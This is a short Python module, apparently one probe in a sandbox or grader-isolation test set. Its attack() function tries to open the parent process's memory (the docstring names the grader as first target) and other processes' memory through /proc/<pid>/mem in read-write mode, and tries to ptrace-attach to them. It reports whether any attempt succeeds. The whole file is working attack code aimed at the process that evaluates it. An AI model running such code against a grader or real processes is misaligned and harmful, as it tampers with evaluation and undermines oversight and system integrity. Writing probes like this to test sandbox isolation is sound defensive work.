"""Write in the memory of other processes, the grader's first."""

from __future__ import annotations

import ctypes
import os

from common import anything, others, read


def attack() -> bool:
    library = ctypes.CDLL(None)

    def patch(process: int) -> None:
        with open(f'/proc/{process}/mem', 'r+b') as memory:
            memory.seek(int(read(f'/proc/{process}/maps').split(b'-')[0], 16))
            memory.read(1)

    def trace(process: int) -> None:
        if library.ptrace(16, process, 0, 0):
            raise OSError

    return anything([lambda f=f, p=p: f(p) for p in [os.getppid(), *others()]
                     for f in (patch, trace) if p > 1])
